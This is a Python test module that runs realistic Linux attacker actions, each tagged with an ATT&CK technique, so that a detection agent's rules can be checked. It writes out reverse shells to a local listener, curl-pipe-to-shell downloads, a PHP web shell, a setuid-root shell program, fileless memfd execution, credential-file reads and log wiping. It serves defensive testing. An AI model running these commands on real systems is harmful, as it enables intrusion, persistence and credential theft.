"""The attack scenarios: each a real attacker action, run on this machine
and undone, with the rules of the default policy it must raise.

One entry per scenario (the `@scenario` decorator): the ATT&CK technique and
tactic it performs, the rules that must fire for the processes it started,
the rules that may fire too, whether it is part of `make test` (`quick`), and
the programs it needs (installed by `make test-detection`). A new event type
brings its scenarios as more entries here.

Safety: live shared files (/etc/passwd, /etc/shadow, /etc/sudoers,
/etc/ld.so.preload...) are opened for writing with a zero-length append
(`: >> FILE`), the open an attacker's append performs, without changing a
byte; kernel settings are written back with their current value; files a
scenario creates are removed, files it changes are restored, users it adds
are deleted, mounts undone, processes stopped.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from detection_context import NOBODY, Context, ScenarioError
from detection_daemons import lighttpd, require


@dataclass(frozen=True)
class Scenario:
    name: str
    technique: str
    tactic: str
    rules: tuple[str, ...]
    run: Callable[[Context], None]
    tolerated: tuple[str, ...] = ()
    quick: bool = False
    doc: str = ""
    needs: tuple[str, ...] = field(default=())
    types: tuple[str, ...] = ()   # event types the kernel must support (else the scenario is skipped)


SCENARIOS: list[Scenario] = []


def scenario(technique: str, tactic: str, rules: list[str], *, tolerated: list[str] | None = None,
             quick: bool = False, needs: tuple[str, ...] = (),
             types: tuple[str, ...] = ()) -> Callable[[Callable[[Context], None]], Callable[[Context], None]]:
    def register(fn: Callable[[Context], None]) -> Callable[[Context], None]:
        SCENARIOS.append(Scenario(fn.__name__, technique, tactic, tuple(rules), fn, tuple(tolerated or ()),
                                  quick, (fn.__doc__ or "").strip().split("\n")[0], needs, types))
        return fn
    return register


def _home(ctx: Context) -> Path:
    """A home directory of a login user that does not exist (files only)."""
    return ctx.mkdir_after(f"/home/rsagent-detection-{ctx.tag}")


def _copy_true(ctx: Context, path: Path, mode: int = 0o755) -> Path:
    shutil.copy2("/bin/true", path)
    path.chmod(mode)
    return path


# --- credential access (TA0006) ------------------------------------------------------

@scenario("T1003.008", "TA0006", ["credential_file_read"], quick=True)
def shadow_read(ctx: Context) -> None:
    """cat /etc/shadow"""
    ctx.sh("cat /etc/shadow > /dev/null")


@scenario("T1003.008", "TA0006", ["hardlink_to_sensitive_file"], quick=True)
def shadow_hardlink_read(ctx: Context) -> None:
    """ln /etc/shadow into /tmp, then read the link (its open carries the link's path)"""
    link = ctx.remove_after(ctx.tmp / "notes.txt")
    ctx.sh(f"ln /etc/shadow {link} && cat {link} > /dev/null")


@scenario("T1552.004", "TA0006", ["ssh_private_key_read"], quick=True)
def ssh_private_key_read(ctx: Context) -> None:
    """cat a user's ~/.ssh/id_rsa"""
    ssh = _home(ctx) / ".ssh"
    ssh.mkdir()
    (ssh / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nrsagent-detection\n-----END OPENSSH PRIVATE KEY-----\n")
    ctx.sh(f"cat {ssh}/id_rsa > /dev/null")


@scenario("T1552.001", "TA0006", ["cloud_credentials_read"])
def aws_credentials_read(ctx: Context) -> None:
    """cat ~/.aws/credentials"""
    aws = _home(ctx) / ".aws"
    aws.mkdir()
    (aws / "credentials").write_text("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n")
    ctx.sh(f"cp {aws}/credentials {ctx.tmp}/loot")


@scenario("T1555.003", "TA0006", ["browser_or_keyring_store_read"])
def firefox_logins_read(ctx: Context) -> None:
    """copy Firefox's saved logins (logins.json, key4.db) out of a profile"""
    profile = _home(ctx) / ".mozilla" / "firefox" / "x1y2z3.default-esr"
    profile.mkdir(parents=True)
    (profile / "logins.json").write_text('{"logins": []}\n')
    ctx.sh(f"tar cf {ctx.tmp}/loot.tar -C {profile} logins.json")


@scenario("T1003.007", "TA0006", ["process_memory_read"], quick=True)
def proc_environ_read(ctx: Context) -> None:
    """read another process's environment through /proc/PID/environ"""
    victim = ctx.spawn(["sleep", "60"], env={"DB_PASSWORD": "rsagent-detection"})
    ctx.sh(f"grep -a PASSWORD /proc/{victim.pid}/environ > /dev/null")


@scenario("T1552.005", "TA0006", ["cloud_metadata_requested"], needs=("curl",))
def cloud_metadata_request(ctx: Context) -> None:
    """curl the instance metadata service for credentials"""
    require("curl")
    ctx.sh("curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/", check=False)


# --- persistence (TA0003) ------------------------------------------------------------

@scenario("T1053.003", "TA0003", ["cron_job_written"], quick=True)
def cron_job_written(ctx: Context) -> None:
    """echo a job into /etc/cron.d"""
    job = ctx.remove_after(f"/etc/cron.d/rsagent-detection-{ctx.tag}")
    ctx.sh(f"echo '# 0 * * * * root /tmp/.x' > {job}")


@scenario("T1053.003", "TA0003", ["cron_job_renamed"])
def cron_job_moved_in(ctx: Context) -> None:
    """write a cron job elsewhere and move it into /etc/cron.d"""
    job = ctx.remove_after(f"/etc/cron.d/rsagent-detection-{ctx.tag}")
    ctx.sh(f"echo '# 0 * * * * root /tmp/.x' > {ctx.tmp}/job && mv {ctx.tmp}/job {job}")


@scenario("T1053.002", "TA0003", ["at_job_scheduled"], needs=("at",))
def at_job(ctx: Context) -> None:
    """at now + 1 hour (removed with atrm)"""
    require("at", "atrm")
    ctx.sh("echo 'true # rsagent-detection' | at now + 1 hour 2>&1; "
           "for j in $(atq | cut -f1); do atrm $j; done")


@scenario("T1543.002", "TA0003", ["systemd_unit_written"], quick=True)
def systemd_service_written(ctx: Context) -> None:
    """write a service unit to /etc/systemd/system"""
    unit = ctx.remove_after(f"/etc/systemd/system/rsagent-detection-{ctx.tag}.service")
    ctx.mkdir_after("/etc/systemd/system")
    ctx.sh(f"printf '[Service]\\nExecStart=/tmp/.x\\n' > {unit}")


@scenario("T1053.006", "TA0003", ["systemd_timer_written"])
def systemd_timer_written(ctx: Context) -> None:
    """write a timer unit to /etc/systemd/system"""
    unit = ctx.remove_after(f"/etc/systemd/system/rsagent-detection-{ctx.tag}.timer")
    ctx.mkdir_after("/etc/systemd/system")
    ctx.sh(f"printf '[Timer]\\nOnCalendar=hourly\\n' > {unit}")


@scenario("T1543.002", "TA0003", ["systemd_unit_renamed"])
def systemd_service_moved_in(ctx: Context) -> None:
    """write a service elsewhere and move it into /etc/systemd/system"""
    unit = ctx.remove_after(f"/etc/systemd/system/rsagent-detection-{ctx.tag}.service")
    ctx.mkdir_after("/etc/systemd/system")
    ctx.sh(f"printf '[Service]\\nExecStart=/tmp/.x\\n' > {ctx.tmp}/u && mv {ctx.tmp}/u {unit}")


@scenario("T1546.004", "TA0003", ["shell_profile_written"], quick=True)
def bashrc_appended(ctx: Context) -> None:
    """append a command to /root/.bashrc"""
    rc = ctx.preserve("/root/.bashrc")
    ctx.sh(f"echo 'true # rsagent-detection' >> {rc}")


@scenario("T1546.004", "TA0003", ["shell_profile_renamed"])
def profile_edited_with_sed(ctx: Context) -> None:
    """sed -i a command into /root/.profile"""
    profile = ctx.preserve("/root/.profile")
    if not profile.exists():
        profile.write_text("# ~/.profile\n")
    ctx.sh(f"sed -i '$a true # rsagent-detection' {profile}")


@scenario("T1098.004", "TA0003", ["authorized_keys_modified"], quick=True)
def authorized_key_added(ctx: Context) -> None:
    """append a key to /root/.ssh/authorized_keys"""
    if not Path("/root/.ssh").exists():
        ctx.mkdir_after("/root/.ssh")
    keys = ctx.preserve("/root/.ssh/authorized_keys")
    ctx.sh(f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBrsagentdetectionrsagentdetectionrsagentd rsagent-detection' >> {keys}")


@scenario("T1574.006", "TA0003", ["dynamic_linker_config_written"], quick=True)
def ld_preload_written(ctx: Context) -> None:
    """open /etc/ld.so.preload for writing (an empty append: no library is preloaded)"""
    ctx.preserve("/etc/ld.so.preload")
    ctx.sh(": >> /etc/ld.so.preload")


@scenario("T1556.003", "TA0003", ["pam_config_written"])
def pam_service_written(ctx: Context) -> None:
    """write a PAM service file that accepts anything (no program uses its name)"""
    pam = ctx.remove_after(f"/etc/pam.d/rsagent-detection-{ctx.tag}")
    ctx.sh(f"echo 'auth sufficient pam_permit.so' > {pam}")


@scenario("T1546.017", "TA0003", ["udev_rule_written"])
def udev_rule_written(ctx: Context) -> None:
    """write a udev rule that would run a program on device events (commented out)"""
    ctx.mkdir_after("/etc/udev/rules.d")
    rule = ctx.remove_after(f"/etc/udev/rules.d/99-rsagent-detection-{ctx.tag}.rules")
    ctx.sh(f"echo '# ACTION==\"add\", RUN+=\"/tmp/.x\"' > {rule}")


@scenario("T1547.006", "TA0003", ["kernel_module_file_written"])
def module_autoload_written(ctx: Context) -> None:
    """write a modules-load.d entry (a module name that does not exist, commented out)"""
    ctx.mkdir_after("/etc/modules-load.d")
    conf = ctx.remove_after(f"/etc/modules-load.d/rsagent-detection-{ctx.tag}.conf")
    ctx.sh(f"echo '# rsagent_detection_rootkit' > {conf}")


@scenario("T1037.004", "TA0003", ["init_script_written"])
def init_script_written(ctx: Context) -> None:
    """write an init script to /etc/init.d (never linked into a runlevel)"""
    ctx.mkdir_after("/etc/init.d")
    script = ctx.remove_after(f"/etc/init.d/rsagent-detection-{ctx.tag}")
    ctx.sh(f"printf '#!/bin/sh\\nexit 0\\n' > {script}")


@scenario("T1547.013", "TA0003", ["autostart_entry_written"])
def xdg_autostart_written(ctx: Context) -> None:
    """write an XDG autostart entry for every desktop login"""
    ctx.mkdir_after("/etc/xdg/autostart")
    entry = ctx.remove_after(f"/etc/xdg/autostart/rsagent-detection-{ctx.tag}.desktop")
    ctx.sh(f"printf '[Desktop Entry]\\nType=Application\\nExec=/bin/true\\nHidden=true\\n' > {entry}")


@scenario("T1136.001", "TA0003", ["account_database_modified"], quick=True)
def passwd_opened_for_append(ctx: Context) -> None:
    """open /etc/passwd for appending a user line (zero-length: the file is unchanged)"""
    ctx.sh(": >> /etc/passwd")


@scenario("T1136.001", "TA0003", ["account_database_replaced"])
def subgid_replaced(ctx: Context) -> None:
    """move an edited copy onto /etc/subgid (the same content)"""
    sub = ctx.preserve("/etc/subgid")
    if not sub.exists():
        sub.write_text("")
    ctx.sh(f"cp -p {sub} {ctx.tmp}/subgid && mv {ctx.tmp}/subgid {sub}")


@scenario("T1136.001", "TA0003", ["user_account_created", "user_account_deleted"], quick=True)
def local_user_created(ctx: Context) -> None:
    """useradd a local user, then userdel it"""
    user = f"rsdet{ctx.tag[:8]}"
    ctx.user_after(user)
    ctx.sh(f"useradd -M -N -s /usr/sbin/nologin {user} && userdel {user}")


@scenario("T1098", "TA0003", ["user_added_to_privileged_group"])
def user_added_to_adm(ctx: Context) -> None:
    """usermod -aG adm (a user created for the scenario)"""
    user = f"rsdet{ctx.tag[:8]}"
    ctx.user_after(user)
    subprocess.run(["useradd", "-M", "-N", "-s", "/usr/sbin/nologin", user], check=True)
    ctx.sh(f"usermod -a -G adm {user}")


@scenario("T1505.003", "TA0003", ["webshell_written"], tolerated=["shell_from_network_service"],
          needs=("lighttpd",))
def webshell_dropped(ctx: Context) -> None:
    """through a command injection, the web server writes a PHP shell into its document root"""
    web = lighttpd(ctx)
    web.run(f"echo '<?php system($_GET[\"c\"]); ?>' > {web.docroot}/.shell.php")


@scenario("T1554", "TA0003", ["system_binary_written"], quick=True)
def system_binary_dropped(ctx: Context) -> None:
    """cp a payload into /usr/bin"""
    target = ctx.remove_after(f"/usr/bin/rsagent-detection-{ctx.tag}")
    ctx.sh(f"cp /bin/true {target}")


@scenario("T1554", "TA0003", ["system_binary_renamed"])
def system_binary_replaced_by_rename(ctx: Context) -> None:
    """build a payload in /tmp and mv it into /usr/sbin"""
    target = ctx.remove_after(f"/usr/sbin/rsagent-detection-{ctx.tag}")
    ctx.sh(f"cp /bin/true {ctx.tmp}/p && mv {ctx.tmp}/p {target}")


def _move_in(ctx: Context, target: str, content: str = "# rsagent-detection\n") -> None:
    """Write a file in the scratch directory, then mv it onto `target` (removed after)."""
    dest = ctx.remove_after(target)
    ctx.mkdir_after(dest.parent)
    (ctx.tmp / "staged").write_text(content)
    ctx.sh(f"mv {ctx.tmp}/staged {dest}")


@scenario("T1098.004", "TA0003", ["authorized_keys_renamed"])
def authorized_keys_moved_in(ctx: Context) -> None:
    """mv a key file onto a user's ~/.ssh/authorized_keys"""
    _move_in(ctx, f"{_home(ctx)}/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza rsagent-detection\n")


@scenario("T1574.006", "TA0003", ["dynamic_linker_config_renamed"])
def ld_so_conf_moved_in(ctx: Context) -> None:
    """mv a library search path into /etc/ld.so.conf.d (a directory that does not exist)"""
    _move_in(ctx, f"/etc/ld.so.conf.d/rsagent-detection-{ctx.tag}.conf", "/nonexistent-rsagent-detection\n")


@scenario("T1556.003", "TA0003", ["pam_config_renamed"])
def pam_service_moved_in(ctx: Context) -> None:
    """mv a PAM service file into /etc/pam.d (no program uses its name)"""
    _move_in(ctx, f"/etc/pam.d/rsagent-detection-{ctx.tag}", "auth sufficient pam_permit.so\n")


@scenario("T1546.017", "TA0003", ["udev_rule_renamed"])
def udev_rule_moved_in(ctx: Context) -> None:
    """mv a udev rule into /etc/udev/rules.d (commented out)"""
    _move_in(ctx, f"/etc/udev/rules.d/99-rsagent-detection-{ctx.tag}.rules")


@scenario("T1547.006", "TA0003", ["kernel_module_file_renamed"])
def modprobe_conf_moved_in(ctx: Context) -> None:
    """mv a modprobe.d configuration into place (commented out)"""
    _move_in(ctx, f"/etc/modprobe.d/rsagent-detection-{ctx.tag}.conf")


@scenario("T1037.004", "TA0003", ["init_script_renamed"])
def motd_script_moved_in(ctx: Context) -> None:
    """mv a message-of-the-day script into /etc/update-motd.d (not executable)"""
    _move_in(ctx, f"/etc/update-motd.d/99-rsagent-detection-{ctx.tag}")


@scenario("T1547.013", "TA0003", ["autostart_entry_renamed"])
def autostart_entry_moved_in(ctx: Context) -> None:
    """mv a desktop entry into a user's ~/.config/autostart"""
    _move_in(ctx, f"{_home(ctx)}/.config/autostart/updater.desktop", "[Desktop Entry]\nHidden=true\n")


# --- privilege escalation (TA0004) -----------------------------------------------------

@scenario("T1548.001", "TA0004", ["setuid_bit_set"], quick=True)
def setuid_bit_set(ctx: Context) -> None:
    """chmod u+s a copy of a shell"""
    _copy_true(ctx, ctx.tmp / "sh")
    ctx.sh(f"chmod u+s {ctx.tmp}/sh")


@scenario("T1548", "TA0004", ["file_capability_set"], quick=True)
def file_capability_set(ctx: Context) -> None:
    """setcap cap_setuid+ep on a copy of a program"""
    _copy_true(ctx, ctx.tmp / "helper")
    ctx.sh(f"setcap cap_setuid+ep {ctx.tmp}/helper")


ROOTSHELL_C = r"""
#include <unistd.h>
int main(void) {
    if (setgid(0) || setuid(0)) return 1;
    execl("/bin/sh", "sh", "-c", "id -u", (char *)0);
    return 1;
}
"""


@scenario("T1068", "TA0004", ["nonstandard_setuid_program_executed", "root_shell_from_unprivileged_parent",
                               "setuid_root_by_non_root_process"],
          quick=True, needs=("gcc",))
def setuid_root_shell(ctx: Context) -> None:
    """nobody runs a planted setuid-root program that starts a root shell"""
    require("gcc")
    (ctx.tmp / "r.c").write_text(ROOTSHELL_C)
    subprocess.run(["gcc", "-o", str(ctx.tmp / "r"), str(ctx.tmp / "r.c")], check=True)
    (ctx.tmp / "r").chmod(0o4755)
    # `; exit` keeps bash from executing the program in its own process: the root
    # shell's parent must be the non-root bash
    out = ctx.sh(f"{ctx.tmp}/r; exit $?", user=NOBODY).stdout.strip()
    if out != "0":
        raise ScenarioError(f"the setuid program did not get root (id -u printed {out!r})")


@scenario("T1548.003", "TA0004", ["sudoers_modified"])
def sudoers_dropin_written(ctx: Context) -> None:
    """write a sudoers.d drop-in (a comment: no rule is granted)"""
    ctx.mkdir_after("/etc/sudoers.d")
    dropin = ctx.remove_after(f"/etc/sudoers.d/rsagent-detection-{ctx.tag}")
    ctx.sh(f"echo '# nobody ALL=(ALL) NOPASSWD: ALL' > {dropin} && chmod 440 {dropin}")


@scenario("T1548.003", "TA0004", ["sudoers_renamed"])
def sudoers_dropin_moved_in(ctx: Context) -> None:
    """mv a sudoers drop-in into /etc/sudoers.d (a comment: no rule is granted)"""
    _move_in(ctx, f"/etc/sudoers.d/rsagent-detection-{ctx.tag}", "# nobody ALL=(ALL) NOPASSWD: ALL\n")


@scenario("T1611", "TA0004", ["cgroup_mounted_in_container", "cgroup_release_agent_written"])
def release_agent_escape(ctx: Context) -> None:
    """in a container: mount a cgroup v1 hierarchy and write its release_agent"""
    point = ctx.mkdir_after(f"/tmp/rsdet-cgrp-{ctx.tag}")
    ctx.umount_after(point)
    ctx.in_container(f"mount -t cgroup -o none,name=rsdet{ctx.tag} cgroup {point} && "
                     f"echo > {point}/release_agent; umount {point}")


@scenario("T1611", "TA0004", ["core_pattern_written"], quick=True)
def core_pattern_rewritten(ctx: Context) -> None:
    """write /proc/sys/kernel/core_pattern (its current value, written back)"""
    ctx.sh("v=$(cat /proc/sys/kernel/core_pattern); printf '%s\\n' \"$v\" > /proc/sys/kernel/core_pattern")


@scenario("T1611", "TA0004", ["host_device_mounted_in_container"], tolerated=["block_device_written"])
def disk_mounted_in_container(ctx: Context) -> None:
    """in a container: mount a disk (a loop device holding an ext2 filesystem)"""
    dev = ctx.loop_device(fs="ext2")
    point = ctx.mkdir_after(ctx.tmp / "host")
    ctx.umount_after(point)
    ctx.in_container(f"mount -o ro {dev} {point} && umount {point}")


@scenario("T1611", "TA0004", ["namespace_tool_executed"], quick=True)
def nsenter_other_namespaces(ctx: Context) -> None:
    """nsenter into another process's namespaces (pid 1's are out of reach in this sandbox)"""
    victim = ctx.spawn(["sleep", "60"])
    ctx.sh(f"nsenter --target {victim.pid} --mount --uts --ipc --net -- true")


# --- defence evasion (TA0005) -----------------------------------------------------------

@scenario("T1070.002", "TA0005", ["log_file_deleted"], quick=True)
def log_deleted(ctx: Context) -> None:
    """rm a log file under /var/log"""
    log = ctx.remove_after(f"/var/log/rsagent-detection-{ctx.tag}.log")
    log.write_text("Failed password for root from 203.0.113.7\n")
    ctx.sh(f"rm -f {log}")


@scenario("T1070.002", "TA0005", ["log_file_truncated"], quick=True)
def log_truncated(ctx: Context) -> None:
    """empty a log file with a shell redirection"""
    log = ctx.remove_after(f"/var/log/rsagent-detection-{ctx.tag}.log")
    log.write_text("Accepted publickey for root from 203.0.113.7\n")
    ctx.sh(f": > {log}")


@scenario("T1070.003", "TA0005", ["shell_history_deleted"], quick=True)
def history_deleted(ctx: Context) -> None:
    """rm ~/.bash_history"""
    hist = _home(ctx) / ".bash_history"
    hist.write_text("curl http://203.0.113.7/x | sh\n")
    ctx.sh(f"rm -f {hist}")


@scenario("T1070.003", "TA0005", ["shell_history_truncated"])
def history_emptied(ctx: Context) -> None:
    """cat /dev/null > ~/.bash_history"""
    hist = _home(ctx) / ".bash_history"
    hist.write_text("curl http://203.0.113.7/x | sh\n")
    ctx.sh(f"cat /dev/null > {hist}")


@scenario("T1070.003", "TA0005", ["shell_history_replaced"])
def history_linked_to_null(ctx: Context) -> None:
    """ln -sf /dev/null ~/.bash_history"""
    hist = _home(ctx) / ".bash_history"
    hist.write_text("curl http://203.0.113.7/x | sh\n")
    ctx.sh(f"ln -sf /dev/null {hist}")


@scenario("T1070.006", "TA0005", ["system_file_timestomped"], tolerated=["system_binary_written"], quick=True)
def system_binary_timestomped(ctx: Context) -> None:
    """touch -r /usr/bin/ls on a planted binary, to blend in"""
    target = ctx.remove_after(f"/usr/bin/rsagent-detection-{ctx.tag}")
    _copy_true(ctx, target)
    ctx.sh(f"touch -r /usr/bin/ls {target}")


@scenario("T1036.004", "TA0005", ["kernel_thread_masquerade"], quick=True)
def kernel_thread_name(ctx: Context) -> None:
    """exec -a '[kworker/0:2]': a payload named like a kernel thread"""
    ctx.sh("exec -a '[kworker/0:2]' sleep 0")


@scenario("T1036.005", "TA0005", ["system_program_name_outside_system_paths"])
def fake_sshd_in_tmp(ctx: Context) -> None:
    """a payload named sshd runs from /tmp"""
    _copy_true(ctx, ctx.tmp / "sshd")
    ctx.sh(f"{ctx.tmp}/sshd")


MEMFD_EXEC = """
import os
fd = os.memfd_create("payload", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
os.execv(f"/proc/self/fd/{fd}", ["payload"])
"""


@scenario("T1620", "TA0005", ["fileless_program_executed"], quick=True)
def memfd_exec(ctx: Context) -> None:
    """memfd_create a payload and execute it from memory"""
    (ctx.tmp / "loader.py").write_text(MEMFD_EXEC)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/loader.py")


@scenario("T1564.001", "TA0005", ["hidden_file_in_system_directory"], tolerated=["system_binary_written"])
def hidden_binary(ctx: Context) -> None:
    """cp a payload to a dot-file in /usr/bin"""
    target = ctx.remove_after(f"/usr/bin/.rsagent-detection-{ctx.tag}")
    ctx.sh(f"cp /bin/true {target}")


@scenario("T1564.001", "TA0005", ["deceptive_directory_created"], quick=True)
def dot_dot_dot_directory(ctx: Context) -> None:
    """mkdir '...' to stash files"""
    ctx.sh(f"mkdir '{ctx.tmp}/...'")


@scenario("T1222.002", "TA0005", ["immutable_attribute_set"])
def immutable_backdoor(ctx: Context) -> None:
    """chattr +i a file so that it cannot be removed (then -i)"""
    f = ctx.tmp / "backdoor"
    f.write_text("x\n")
    ctx.sh(f"chattr +i {f}; rc=$?; chattr -i {f}; exit $rc")


@scenario("T1222.002", "TA0005", ["sensitive_file_permissions_changed"], quick=True)
def shadow_chmod(ctx: Context) -> None:
    """chmod /etc/shadow (to the mode it has)"""
    mode = oct(Path("/etc/shadow").stat().st_mode & 0o7777)[2:]
    ctx.sh(f"chmod {mode} /etc/shadow")


@scenario("T1222.002", "TA0005", ["sensitive_file_owner_changed"])
def shadow_chown(ctx: Context) -> None:
    """chown /etc/shadow (to the owner it has)"""
    st = Path("/etc/shadow").stat()
    ctx.sh(f"chown {st.st_uid}:{st.st_gid} /etc/shadow")


@scenario("T1562.001", "TA0005", ["security_service_stopped"], quick=True)
def security_agent_stopped(ctx: Context) -> None:
    """systemctl stop the security agent (a unit that is not installed: nothing stops)"""
    ctx.sh(f"systemctl stop rsagent-detection-{ctx.tag}.service", check=False)


@scenario("T1562.004", "TA0005", ["firewall_disabled"], tolerated=["namespace_tool_executed"], needs=("iptables",))
def firewall_flushed(ctx: Context) -> None:
    """iptables -F (in a new network namespace: the host's rules are untouched)"""
    require("iptables")
    ctx.sh("unshare --net iptables -F")


@scenario("T1562.001", "TA0005", ["hardening_sysctl_written"], quick=True)
def aslr_rewritten(ctx: Context) -> None:
    """write kernel.randomize_va_space (its current value, written back)"""
    ctx.sh("v=$(cat /proc/sys/kernel/randomize_va_space); echo $v > /proc/sys/kernel/randomize_va_space")


@scenario("T1070.004", "TA0005", ["self_deleting_program"], quick=True)
def self_deleting_script(ctx: Context) -> None:
    """a dropped script deletes itself when it runs"""
    script = ctx.tmp / "stage1"
    script.write_text('#!/bin/sh\nrm -f -- "$0"\n')
    script.chmod(0o755)
    ctx.sh(str(script))


@scenario("T1553.004", "TA0005", ["root_certificate_installed"])
def root_ca_planted(ctx: Context) -> None:
    """drop a certificate authority into /usr/local/share/ca-certificates"""
    if not Path("/usr/local/share/ca-certificates").exists():
        ctx.mkdir_after("/usr/local/share/ca-certificates")
    cert = ctx.remove_after(f"/usr/local/share/ca-certificates/rsagent-detection-{ctx.tag}.crt")
    ctx.sh(f"printf -- '-----BEGIN CERTIFICATE-----\\nrsagent\\n-----END CERTIFICATE-----\\n' > {cert}")


@scenario("T1553.004", "TA0005", ["root_certificate_renamed"])
def root_ca_moved_in(ctx: Context) -> None:
    """mv a certificate authority into /usr/local/share/ca-certificates"""
    _move_in(ctx, f"/usr/local/share/ca-certificates/rsagent-detection-{ctx.tag}.crt",
             "-----BEGIN CERTIFICATE-----\nrsagent\n-----END CERTIFICATE-----\n")


@scenario("T1006", "TA0005", ["raw_filesystem_access"], needs=("debugfs",))
def debugfs_read(ctx: Context) -> None:
    """debugfs reads a file straight from a filesystem image"""
    require("debugfs", "mkfs.ext2")
    image = ctx.tmp / "fs.img"
    with image.open("wb") as f:
        f.truncate(4 << 20)
    subprocess.run(["mkfs.ext2", "-q", "-F", str(image)], check=True, capture_output=True)
    ctx.sh(f"debugfs -R 'ls -l /' {image}")


@scenario("T1564", "TA0005", ["bind_mount_over_proc"])
def process_hidden_by_bind_mount(ctx: Context) -> None:
    """mount --bind an empty directory over /proc/PID to hide a process"""
    victim = ctx.spawn(["sleep", "60"])
    empty = ctx.mkdir_after(ctx.tmp / "empty")
    ctx.umount_after(f"/proc/{victim.pid}")
    ctx.sh(f"mount --bind {empty} /proc/{victim.pid} && umount /proc/{victim.pid}")


@scenario("T1027", "TA0005", ["encoded_interpreter_payload"], quick=True)
def python_base64_exec(ctx: Context) -> None:
    """python3 -c 'exec(base64.b64decode(...))'"""
    ctx.sh("python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoJ3JzYWdlbnQnKQ==\"))'")


@scenario("T1140", "TA0005", ["decoded_payload_piped_to_shell"], quick=True)
def base64_to_shell(ctx: Context) -> None:
    """sh -c 'echo ... | base64 -d | sh'"""
    ctx.sh("sh -c 'echo ZWNobyByc2FnZW50LWRldGVjdGlvbgo= | base64 -d | sh'")


# --- execution (TA0002) -------------------------------------------------------------------

@scenario("T1059.004", "TA0002", ["shell_from_network_service"], needs=("lighttpd",))
def web_command_injection(ctx: Context) -> None:
    """a command injection in a CGI: the web server runs a shell"""
    web = lighttpd(ctx)
    if "uid=" not in web.run("id"):
        raise ScenarioError("the injected command did not run")


@scenario("T1059", "TA0002", ["inline_code_from_network_service"], tolerated=["shell_from_network_service"],
          needs=("lighttpd",))
def web_inline_python(ctx: Context) -> None:
    """a command injection runs inline Python below the web server"""
    web = lighttpd(ctx)
    web.run("python3 -c 'print(42)'")


@scenario("T1059.004", "TA0002", ["reverse_shell_dev_tcp"], quick=True)
def bash_dev_tcp_reverse_shell(ctx: Context) -> None:
    """bash -i >& /dev/tcp/HOST/PORT 0>&1 (to a listener of the test)"""
    port = ctx.shell_listener()
    # HISTFILE empty: the interactive shell must not create root's history file (a file a
    # shell creates is opened with O_TRUNC, as shell_history_truncated's known limit says)
    ctx.sh(f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'", check=False,
           env={**os.environ, "HISTFILE": ""})


@scenario("T1059.006", "TA0002", ["interpreter_reverse_shell"])
def python_reverse_shell(ctx: Context) -> None:
    """python3 -c 'import socket,os,pty; ... pty.spawn("/bin/sh")' to a listener of the test"""
    port = ctx.shell_listener()
    ctx.sh("python3 -c 'import socket,os,subprocess;s=socket.socket();"
           f"s.connect((\"127.0.0.1\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
           "subprocess.call([\"/bin/sh\",\"-i\"])'", check=False)


@scenario("T1059.004", "TA0002", ["netcat_remote_shell", "network_tool_executed"], needs=("nc",))
def netcat_fifo_reverse_shell(ctx: Context) -> None:
    """the mkfifo + nc reverse shell, to a listener of the test"""
    require("nc")
    port = ctx.shell_listener()
    fifo = ctx.tmp / "f"
    ctx.sh(f"sh -c 'mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc -q 1 127.0.0.1 {port} > {fifo}'", check=False)


# --- command and control (TA0011) ---------------------------------------------------------

@scenario("T1105", "TA0011", ["download_piped_to_shell"], quick=True, needs=("curl",))
def curl_pipe_sh(ctx: Context) -> None:
    """sh -c 'curl -fsS http://HOST/install.sh | sh' (from a server of the test)"""
    require("curl")
    port = ctx.http_server({"install.sh": b"echo rsagent-detection\n"})
    out = ctx.sh(f"sh -c 'curl -fsS http://127.0.0.1:{port}/install.sh | sh'").stdout
    if "rsagent-detection" not in out:
        raise ScenarioError(f"the downloaded script did not run: {out!r}")


@scenario("T1105", "TA0011", ["shell_runs_downloaded_code"], needs=("curl",))
def bash_c_curl(ctx: Context) -> None:
    """sh -c 'bash -c "$(curl -fsS http://HOST/x.sh)"'"""
    require("curl")
    port = ctx.http_server({"x.sh": b"echo rsagent-detection\n"})
    ctx.sh(f"sh -c 'bash -c \"$(curl -fsS http://127.0.0.1:{port}/x.sh)\"'")


@scenario("T1105", "TA0011", ["downloader_below_network_service"], tolerated=["shell_from_network_service"],
          needs=("lighttpd", "curl"))
def web_shell_downloads_tool(ctx: Context) -> None:
    """a command injection makes the web server fetch a tool with curl"""
    web = lighttpd(ctx)
    port = ctx.http_server({"tool": b"#!/bin/sh\necho tool\n"})
    web.run(f"curl -fsS -o /dev/null http://127.0.0.1:{port}/tool")


@scenario("T1105", "TA0011", ["temp_program_below_network_service", "temp_program_owned_by_service_account"],
          tolerated=["shell_from_network_service"], needs=("lighttpd",))
def web_shell_runs_dropped_binary(ctx: Context) -> None:
    """a command injection drops a program in /tmp and runs it"""
    web = lighttpd(ctx)
    drop = ctx.remove_after(f"/tmp/.rsdet-{ctx.tag}")
    web.run(f"cp /bin/true {drop} && chmod +x {drop} && {drop}")


@scenario("T1105", "TA0011", ["temp_program_owned_by_service_account"], quick=True)
def service_account_drops_binary(ctx: Context) -> None:
    """a daemon's account (nobody) writes a program in /tmp and runs it"""
    drop = ctx.tmp / "drop"
    drop.mkdir(mode=0o1777)
    drop.chmod(0o1777)
    ctx.sh(f"cp /bin/true {drop}/kinsing && {drop}/kinsing", user=NOBODY)


@scenario("T1105", "TA0011", ["container_drift_executed"])
def container_drift(ctx: Context) -> None:
    """in a container: a program written into the overlay's upper layer runs"""
    layers = {n: ctx.mkdir_after(ctx.tmp / n) for n in ("lower", "upper", "work", "merged")}
    shutil.copy2("/bin/true", layers["lower"] / "true")
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                    f"lowerdir={layers['lower']},upperdir={layers['upper']},workdir={layers['work']}",
                    str(layers["merged"])], check=True)
    ctx.umount_after(layers["merged"])
